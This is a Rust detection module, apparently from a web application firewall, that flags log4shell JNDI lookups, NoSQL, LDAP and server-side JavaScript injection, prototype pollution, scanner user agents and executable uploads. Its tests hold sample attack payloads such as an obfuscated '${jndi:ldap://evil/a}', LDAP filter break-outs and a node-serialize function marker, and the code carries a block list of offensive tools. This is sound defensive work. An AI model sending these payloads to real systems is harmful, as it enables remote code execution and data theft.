//! Small grammars: JNDI lookups (log4shell, with nested lookup
//! obfuscations resolved), NoSQL (Mongo operators, server-side JS), LDAP
//! filter injection, prototype pollution, scanner user agents, GraphQL
//! introspection, NUL bytes.

use rampart_inspect::Location;

use crate::{util, AttackClass, Ctx, Hit};

/// Resolve log4j-style lookups the way log4j would before it reaches
/// `jndi:`: `${lower:j}` -> `j`, `${::-n}` -> `n`, `${env:X:-d}` -> `d`.
/// Unknown lookups are kept verbatim. Linear: one pass with a stack.
pub fn resolve_lookups(s: &str) -> String {
    let b = s.as_bytes();
    let mut stack: Vec<String> = vec![String::new()];
    let mut i = 0;
    while i < b.len() {
        if b[i] == b'$' && i + 1 < b.len() && b[i + 1] == b'{' && stack.len() < 64 {
            stack.push(String::new());
            i += 2;
            continue;
        }
        if b[i] == b'}' && stack.len() > 1 {
            let inner = stack.pop().unwrap_or_default();
            let resolved = eval_lookup(&inner);
            stack.last_mut().unwrap().push_str(&resolved);
            i += 1;
            continue;
        }
        let ch_len = match b[i] {
            0x00..=0x7f => 1,
            0xc0..=0xdf => 2,
            0xe0..=0xef => 3,
            _ => 4,
        };
        let end = (i + ch_len).min(b.len());
        stack.last_mut().unwrap().push_str(s.get(i..end).unwrap_or(""));
        i = end;
    }
    // unclosed lookups: keep their text
    let mut out = String::new();
    for (k, part) in stack.into_iter().enumerate() {
        if k > 0 {
            out.push_str("${");
        }
        out.push_str(&part);
    }
    out
}

fn eval_lookup(inner: &str) -> String {
    if let Some(p) = inner.find(":-") {
        return inner[p + 2..].to_string();
    }
    for pre in ["lower:", "upper:"] {
        if let Some(r) = inner.strip_prefix(pre) {
            return r.to_ascii_lowercase();
        }
    }
    if inner.starts_with("jndi:") || inner.starts_with("jndi") {
        return format!("${{{inner}}}");
    }
    format!("${{{inner}}}")
}

const MONGO_OPS: &[&str] = &[
    "$ne",
    "$eq",
    "$gt",
    "$gte",
    "$lt",
    "$lte",
    "$in",
    "$nin",
    "$regex",
    "$where",
    "$exists",
    "$or",
    "$and",
    "$not",
    "$nor",
    "$expr",
    "$function",
    "$accumulator",
    "$elemmatch",
    "$all",
    "$size",
    "$type",
    "$mod",
    "$text",
    "$jsonschema",
    "$lookup",
    "$merge",
    "$out",
    "$group",
    "$match",
    "$options",
    "$set",
    "$unset",
    "$push",
    "$inc",
    "$rename",
    "$where:",
];

const LDAP_ATTRS: &[&str] = &[
    "uid",
    "cn",
    "sn",
    "ou",
    "dc",
    "o",
    "mail",
    "objectclass",
    "userpassword",
    "givenname",
    "memberof",
    "samaccountname",
    "description",
    "telephonenumber",
    "displayname",
    "member",
    "name",
    "password",
    "pwd",
    "user",
    "username",
    "homedirectory",
    "accountname",
    "userprincipalname",
];

const SCANNERS: &[&str] = &[
    // Nessus names the plugin that sends a request in its User-Agent: `..._sql_injection.nasl`
    ".nasl",
    "sqlmap",
    "nikto",
    "nmap",
    "acunetix",
    "nessus",
    "masscan",
    "w3af",
    "dirbuster",
    "gobuster",
    "wpscan",
    "nuclei",
    "zgrab",
    "openvas",
    "arachni",
    "havij",
    "netsparker",
    "burpcollaborator",
    "owasp zap",
    "zaproxy",
    "commix",
    "jaeles",
    "ffuf",
    "feroxbuster",
    "whatweb",
    "wfuzz",
    "skipfish",
    "vega/",
    "webinspect",
    "appscan",
    "paros",
    "grabber",
    "hydra",
    "medusa",
    "brutus",
    "fimap",
    "dotdotpwn",
    "bbqsql",
    "jbrofuzz",
    "webshag",
    "uniscan",
    "xsser",
    "sqlninja",
    "morfeus",
    "zmeu",
    "nstealth",
    "qualys",
    "blackwidow",
    "httprint",
    "mysqloit",
    "pangolin",
    "struts-pwn",
    "cgichk",
    "dirb",
    "l9explore",
    "l9tcpid",
    "absinthe",
    "crimscanner",
    "internet ninja",
    "metis",
    "n-stealth",
    "nsauditor",
    "sf/",
    "security scan",
    "(hydra)",
    "teh forest lobster",
    "floodgate",
    "grendel-scan",
    "bsqlbf",
    "webvulnscan",
    "webtrends security analyzer",
    "advanced email extractor",
    "fhscan",
    "masscan-ng",
    "interactsh",
    "projectdiscovery",
    "fuzz faster u fool",
    ".nasl",
    "nessus_",
    "x-scanner",
    "dirsearch",
    "katana",
    "tsunami",
    "wapiti",
    "vooki",
    "nmap scripting engine",
    "ldapsearch",
];

fn jndi(ctx: &Ctx<'_>, out: &mut Vec<Hit>) {
    let s = ctx.lower;
    if !s.contains("${") {
        return;
    }
    let r = resolve_lookups(s);
    if let Some(p) = r.find("${jndi:") {
        out.push(Hit::new(AttackClass::Jndi, "JNDI-001", 10, util::excerpt(&r[p..], 80)));
        return;
    }
    // lookups that exfiltrate (${env:AWS_SECRET}, ${sys:...}) in a header / param
    for l in [
        "${env:",
        "${sys:",
        "${java:",
        "${main:",
        "${ctx:",
        "${k8s:",
        "${docker:",
        "${spring:",
        "${log4j:",
        "${base64:",
        "${date:",
        "${bundle:",
    ] {
        if let Some(p) = s.find(l) {
            out.push(Hit::new(
                AttackClass::Jndi,
                "JNDI-002",
                6,
                util::excerpt_at(ctx.value, p, 80),
            ));
            return;
        }
    }
}

fn nosql(ctx: &Ctx<'_>, out: &mut Vec<Hit>) {
    let s = ctx.lower;
    if ctx.point.is_key {
        // query keys like user[$ne] / JSON keys like "$where"
        let k = s.trim_start_matches('[');
        for seg in k.split(['[', ']', '.']) {
            if MONGO_OPS.contains(&seg) {
                out.push(Hit::new(AttackClass::Nosqli, "NOSQLI-001", 8, ctx.value));
                return;
            }
        }
    } else if ctx.point.path.contains(".$") || ctx.point.path.contains("|json.$") {
        // value of an operator key already scored via the key
    }
    // a bracketed operator inside a value: `[$lte]x`, `a[$ne]=1` (query-string syntax that a
    // qs-style parser turns into an operator object when the value is parsed again)
    if let Some(p) = s.find("[$") {
        let op = s[p + 1..].split(']').next().unwrap_or("");
        if s[p + 1..].contains(']') && MONGO_OPS.contains(&op) {
            out.push(Hit::new(
                AttackClass::Nosqli,
                "NOSQLI-002",
                8,
                util::excerpt_at(ctx.value, p, 80),
            ));
            return;
        }
    }
    // operators inside a value: "$where: '...'", "{'$ne': 1}", "', $or: [ {}"
    if s.contains('$') {
        for op in [
            "$where",
            "$ne",
            "$gt",
            "$regex",
            "$or",
            "$and",
            "$nin",
            "$expr",
            "$function",
            "$lookup",
        ] {
            if let Some(p) = s.find(op) {
                let after = &s[p + op.len()..];
                let after_t = after.trim_start_matches(['"', '\'', ' ']);
                if after_t.starts_with(':') {
                    out.push(Hit::new(
                        AttackClass::Nosqli,
                        "NOSQLI-002",
                        8,
                        util::excerpt_at(ctx.value, p, 80),
                    ));
                    return;
                }
            }
        }
    }
    // server-side JavaScript: db.x.find(), this.password.match(), sleep loops
    let js_db = (s.contains("db.")
        && [
            "find(",
            "insert(",
            "drop(",
            "remove(",
            "update(",
            "getcollection",
            "eval(",
            "injection",
            "mapreduce",
        ]
        .iter()
        .any(|x| s.contains(x)))
        || (s.contains("this.") && (s.contains("==") || s.contains(".match(") || s.contains("return")))
        || (s.contains("new date()") && (s.contains("while") || s.contains("do{") || s.contains("do {")))
        || (s.contains("return true") || s.contains("return 1"))
            && s.contains(';')
            && (s.contains('\'') || s.contains('"'))
        || (s.contains("sleep(") && s.contains("function"));
    if js_db {
        out.push(Hit::new(
            AttackClass::Nosqli,
            "NOSQLI-003",
            8,
            util::excerpt(ctx.value, 80),
        ));
    }
}

fn ldap(ctx: &Ctx<'_>, out: &mut Vec<Hit>) {
    let s = ctx.lower;
    if !(s.contains('(') || s.contains(')') || s.contains('*') || s.contains(":=")) {
        return;
    }
    let b = s.as_bytes();
    let mut score = 0u32;
    let mut at = 0;
    // filter components "(attr=" / "(attr:rule:=" / "(|" / "(&" / "(!"
    let mut comps = 0;
    let mut ops = 0;
    let mut i = 0;
    while i + 1 < b.len() {
        if b[i] == b'(' {
            let r = &s[i + 1..];
            if r.starts_with('|') || r.starts_with('&') || r.starts_with('!') {
                ops += 1;
            } else {
                let name_end = r.find(['=', '~', '<', '>', ':', ')', '(', ' ']).unwrap_or(r.len());
                let name = &r[..name_end];
                let rest = &r[name_end..];
                if !name.is_empty()
                    && name.len() < 40
                    && (rest.starts_with('=')
                        || rest.starts_with("~=")
                        || rest.starts_with(">=")
                        || rest.starts_with("<=")
                        || rest.starts_with(':'))
                    && name
                        .bytes()
                        .all(|c| c.is_ascii_alphanumeric() || c == b'-' || c == b'.' || c == b';')
                {
                    comps += 1;
                    if LDAP_ATTRS.contains(&name) || name.bytes().all(|c| c.is_ascii_digit()) {
                        comps += 1;
                    }
                }
            }
        }
        i += 1;
    }
    // a whole, balanced filter (or several) as the value: a client that
    // builds LDAP queries, not a break-out of the application's filter
    let whole = s.starts_with('(') && s.trim_end().ends_with(')') && {
        let mut depth = 0i32;
        let mut ok = true;
        for c in b {
            match c {
                b'(' => depth += 1,
                b')' => {
                    depth -= 1;
                    if depth < 0 {
                        ok = false;
                        break;
                    }
                }
                _ => {}
            }
        }
        ok && depth == 0
    };
    // ... unless it carries the injection's tells: a literal true/false
    // component such as `(1=0)`, an empty `(&)`, wildcards, password attributes
    let literal_cmp = b.windows(2).enumerate().any(|(i, w)| {
        w[0] == b'(' && w[1].is_ascii_digit() && {
            let r = &b[i + 1..];
            let e = r.iter().position(|c| !c.is_ascii_digit()).unwrap_or(r.len());
            r.get(e) == Some(&b'=')
        }
    });
    if whole && !literal_cmp && !s.contains("*)") && !s.contains("(&)") && !s.contains("(|)") && !s.contains("password")
    {
        if comps + ops > 0 {
            out.push(Hit::new(
                AttackClass::Ldapi,
                "LDAPI-001",
                3,
                util::excerpt(ctx.value, 80),
            ));
        }
        return;
    }
    if s.contains(")(") && (comps > 0 || ops > 0) {
        score = 8;
        at = s.find(")(").unwrap_or(0);
    } else if ops > 0 && comps > 0 {
        score = 8;
    } else if (s.starts_with("*)") || s.contains("*)(") || s.contains("*))")) && comps + ops > 0 {
        score = 8;
    } else if comps >= 2 && s.contains("=*") {
        score = 6;
    }
    // extensible match:  attr:1.2.840.113556.1.4.803:=  / userPassword:2.5.13.18:=
    if score == 0 {
        if let Some(p) = s.find(":=") {
            let pre = &s[..p];
            let rule = pre.rsplit(':').next().unwrap_or("");
            let attr = pre.split(':').next().unwrap_or("");
            if !rule.is_empty()
                && rule.bytes().all(|c| c.is_ascii_digit() || c == b'.')
                && rule.contains('.')
                && LDAP_ATTRS.iter().any(|a| attr.ends_with(a))
            {
                score = 8;
                at = p;
            }
        }
    }
    if score > 0 {
        out.push(Hit::new(
            AttackClass::Ldapi,
            "LDAPI-001",
            score,
            util::excerpt_at(ctx.value, at, 80),
        ));
    }
}

fn proto(ctx: &Ctx<'_>, out: &mut Vec<Hit>) {
    let s = ctx.lower;
    let hit = s.contains("__proto__")
        || (s.contains("constructor") && s.contains("prototype") && {
            let p = ctx.point.path.to_ascii_lowercase();
            ctx.point.is_key
                || p.contains("constructor")
                || s.contains("constructor.prototype")
                || s.contains("constructor[prototype]")
                || s.contains("[constructor][prototype]")
        });
    if hit {
        let sc = if ctx.point.is_key
            || s.contains("__proto__[")
            || s.contains("__proto__.")
            || s.contains("\"__proto__\"")
        {
            8
        } else {
            5
        };
        out.push(Hit::new(
            AttackClass::PrototypePollution,
            "PROTO-POLL-001",
            sc,
            util::excerpt(ctx.value, 80),
        ));
    }
}

fn scanner(ctx: &Ctx<'_>, out: &mut Vec<Hit>) {
    if ctx.point.location != Location::Header {
        return;
    }
    let p = &ctx.point.path;
    if p != "header.user-agent" && !p.starts_with("header.x-") {
        return;
    }
    let s = ctx.lower;
    if let Some((_, name)) = crate::lits!(SCANNERS).find(s) {
        out.push(Hit::new(
            AttackClass::Scanner,
            "SCANNER-001",
            8,
            format!("{name}: {}", util::excerpt(ctx.value, 60)),
        ));
    }
}

/// Scanner check on a user agent alone.
pub fn scanner_ua(ua: &str, out: &mut Vec<Hit>) {
    let s = ua.to_ascii_lowercase();
    if let Some((_, name)) = crate::lits!(SCANNERS).find(&s) {
        out.push(Hit::new(
            AttackClass::Scanner,
            "SCANNER-001",
            8,
            format!("{name}: {}", util::excerpt(ua, 60)),
        ));
    }
}

fn graphql(ctx: &Ctx<'_>, out: &mut Vec<Hit>) {
    let s = ctx.lower;
    if let Some(p) = s
        .find("__schema")
        .or_else(|| s.find("__type(").or_else(|| s.find("__type (")))
    {
        if s.contains('{') {
            out.push(Hit::new(
                AttackClass::Graphql,
                "GQL-001",
                6,
                util::excerpt_at(ctx.value, p, 80),
            ));
        }
    }
}

fn nul(ctx: &Ctx<'_>, out: &mut Vec<Hit>) {
    // no server percent-decodes a Host header: a NUL only our decoder made
    if ctx.point.path == "header.host" && !ctx.point.chain.is_empty() {
        return;
    }
    if ctx.point.location == Location::Body && matches!(ctx.point.path.rsplit('.').next(), Some("binary")) {
        return;
    }
    if let Some(p) = ctx.value.find('\0') {
        if ctx.point.location != Location::Body || ctx.value.len() < 4096 {
            out.push(Hit::new(
                AttackClass::Protocol,
                "PROTO-020",
                5,
                util::excerpt_at(ctx.value, p, 40),
            ));
        }
    }
}

/// Server-side JavaScript (Node.js) injection: serialized functions that
/// `node-serialize` / `funcster` revive, sandbox escapes through the
/// constructor chain, code construction, and module access.
const SSJS_KEYS: &[&str] = &[
    "nd_func",
    "_js_function",
    "constructor",
    "process",
    "function",
    "module.exports",
];

fn ssjs(ctx: &Ctx<'_>, out: &mut Vec<Hit>) {
    let s = ctx.lower;
    if crate::lits!(SSJS_KEYS).find(s).is_none() {
        return;
    }
    let v = ctx.value;
    let mut best: (u32, usize) = (0, 0);
    let mut upd = |sc: u32, at: usize| {
        if sc > best.0 {
            best = (sc, at);
        }
    };
    if let Some(p) = s.find("_$$nd_func$$_") {
        upd(9, p);
    }
    if let Some(p) = s.find("__js_function") {
        upd(8, p);
    }
    // this.constructor.constructor("return process")()
    if s.contains("constructor") || s.contains("process") {
        let compact: String = s.chars().filter(|c| !c.is_whitespace()).take(4096).collect();
        if let Some(p) = compact
            .find(".constructor.constructor")
            .or_else(|| compact.find("constructor.constructor("))
        {
            upd(8, p.min(s.len()));
        }
        for m in [
            "require('child_process",
            "require(\"child_process",
            "process.mainmodule",
            "process.binding(",
        ] {
            if let Some(p) = compact.find(m) {
                upd(8, p.min(s.len()));
            }
        }
    }
    // `new Function(` with the constructor's capital: code from a string
    if let Some(p) = v.find("new Function") {
        let rest = v[p + 12..].trim_start();
        if rest.starts_with('(') {
            upd(6, p);
        }
    }
    // the whole value is a function expression or a module assignment
    let head = s.trim_start_matches(|c: char| c.is_whitespace() || c == '(' || c == ';');
    if let Some(r) = head.strip_prefix("function") {
        let r = r.trim_start();
        if let Some(r) = r.strip_prefix('(') {
            let r = r.trim_start().strip_prefix(')').map(str::trim_start);
            if r.is_some_and(|r| r.starts_with('{')) {
                upd(6, 0);
            }
        }
    }
    if let Some(r) = head.strip_prefix("module.exports") {
        if r.trim_start().starts_with('=') {
            upd(6, 0);
        }
    }
    if best.0 > 0 {
        out.push(Hit::new(
            AttackClass::Rce,
            "SSJS-001",
            best.0,
            util::excerpt_at(v, best.1.min(v.len()), 80),
        ));
    }
}

/// Uploads of server-executable scripts (file name in a multipart part or
/// an upload header).
fn script_upload(ctx: &Ctx<'_>, out: &mut Vec<Hit>) {
    let p = ctx.point.path.as_str();
    let is_name = p.ends_with(".filename")
        || matches!(
            p,
            "header.x-filename"
                | "header.x-file-name"
                | "header.x-upload-filename"
                | "header.x_filename"
                | "header.x_file_name"
                | "header.x-file_name"
                | "header.x_file-name"
        );
    if !is_name {
        return;
    }
    let s = ctx.lower.trim_end_matches(['"', ' ', '.', '\0']);
    let ext = s.rsplit('.').next().unwrap_or("");
    // `.php907`, `.php5`: Apache's handler matching takes any php<digits>
    let php_digits = ext
        .strip_prefix("php")
        .is_some_and(|d| d.bytes().all(|c| c.is_ascii_digit()));
    if php_digits
        || matches!(
            ext,
            "php"
                | "php3"
                | "php4"
                | "php5"
                | "php7"
                | "pht"
                | "phtml"
                | "phar"
                | "jsp"
                | "jspx"
                | "asp"
                | "aspx"
                | "ashx"
                | "asmx"
                | "cer"
                | "cgi"
                | "pl"
                | "py"
                | "sh"
                | "htaccess"
                | "shtml"
                | "war"
                | "exe"
                | "bat"
                | "cmd"
                | "ps1"
                | "vbs"
                | "hta"
                | "scr"
        )
        || s.contains(".php.")
        || s.ends_with(".htaccess")
    {
        out.push(Hit::new(
            AttackClass::PhpInjection,
            "UPLOAD-001",
            5,
            format!("executable upload: {}", util::excerpt(ctx.value, 60)),
        ));
    }
}

pub fn check(ctx: &Ctx<'_>, out: &mut Vec<Hit>) {
    script_upload(ctx, out);
    jndi(ctx, out);
    if ctx.pre.has(crate::prefilter::B_DOLLAR)
        || ctx.lower.contains("db.")
        || ctx.lower.contains("this.")
        || ctx.lower.contains("new date")
        || ctx.lower.contains("return")
    {
        nosql(ctx, out);
    }
    ldap(ctx, out);
    if ctx.lower.contains("proto") {
        proto(ctx, out);
    }
    scanner(ctx, out);
    ssjs(ctx, out);
    if ctx.lower.contains("__") {
        graphql(ctx, out);
    }
    if ctx.pre.has(crate::prefilter::B_CTRL) {
        nul(ctx, out);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn hits(v: &str, path: &str, loc: Location, key: bool) -> u32 {
        crate::max_score_at(check, v, path, loc, key)
    }

    #[test]
    fn ssjs_and_ldap_filters() {
        let q = |v: &str| hits(v, "query.q", Location::Query, false);
        for a in [
            "{\"x\":\"_$$ND_FUNC$$_function(){}()\"}",
            "this.constructor.constructor('return process')()",
            "function ( ) { return 1 }",
            "module.exports = {}",
            "x = new Function ('a', 'return a')",
        ] {
            assert!(q(a) >= 5, "{a}: {}", q(a));
        }
        for b in [
            "This new function (beta) helps teams",
            "A constructor creates objects in JavaScript",
            "function keys on the keyboard",
            "(&(objectClass=person)(mail=a@example.com))",
        ] {
            assert!(q(b) < 5, "{b}: {}", q(b));
        }
        assert!(q("(&(uid=admin)(!(&(1=0)(userPassword=x))))") >= 5);
        assert!(q("x*)(uid=*))(|(uid=*") >= 5);
        let up = |v: &str, h: &str| hits(v, h, Location::Header, false);
        assert!(up("shell.php5..", "header.x_filename") >= 5);
        assert_eq!(up("holiday.jpeg", "header.x_filename"), 0);
    }

    #[test]
    fn jndi_nested() {
        assert_eq!(resolve_lookups("${${lower:j}ndi:ldap://x}"), "${jndi:ldap://x}");
        assert_eq!(resolve_lookups("${${::-j}${::-n}di:rmi://x}"), "${jndi:rmi://x}");
        assert!(
            hits(
                "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap://x/a}",
                "header.x-api",
                Location::Header,
                false
            ) >= 5
        );
        assert!(hits("${jndi:ldap://evil/a}", "header.user-agent", Location::Header, false) >= 5);
    }

    #[test]
    fn nosql_ops() {
        assert!(hits("user[$ne]", "query.user.$ne", Location::Query, true) >= 5);
        assert!(hits("$where", "body.json.$where", Location::Body, true) >= 5);
        assert!(hits("true, $where: '1 == 1'", "query.q", Location::Query, false) >= 5);
        assert!(hits("[$lte]2024", "query.q", Location::Query, false) >= 5);
        assert!(hits("Price is $5, thanks", "query.q", Location::Query, false) < 5);
        assert!(hits("[$5] off [$10]", "query.q", Location::Query, false) < 5);
    }

    #[test]
    fn ldap_filters() {
        assert!(hits("*)(uid=*))(|(uid=*", "query.u", Location::Query, false) >= 5);
        assert!(hits("admin)(|(password=*)", "query.u", Location::Query, false) >= 5);
        assert!(hits("(smile) :-)", "query.u", Location::Query, false) < 5);
    }

    #[test]
    fn proto_and_scanner() {
        assert!(hits("__proto__[admin]", "query.__proto__.admin", Location::Query, true) >= 5);
        assert!(hits("sqlmap/1.7#stable", "header.user-agent", Location::Header, false) >= 5);
        assert!(
            hits(
                "Mozilla/5.0 (X11; Linux x86_64)",
                "header.user-agent",
                Location::Header,
                false
            ) < 5
        );
    }
}
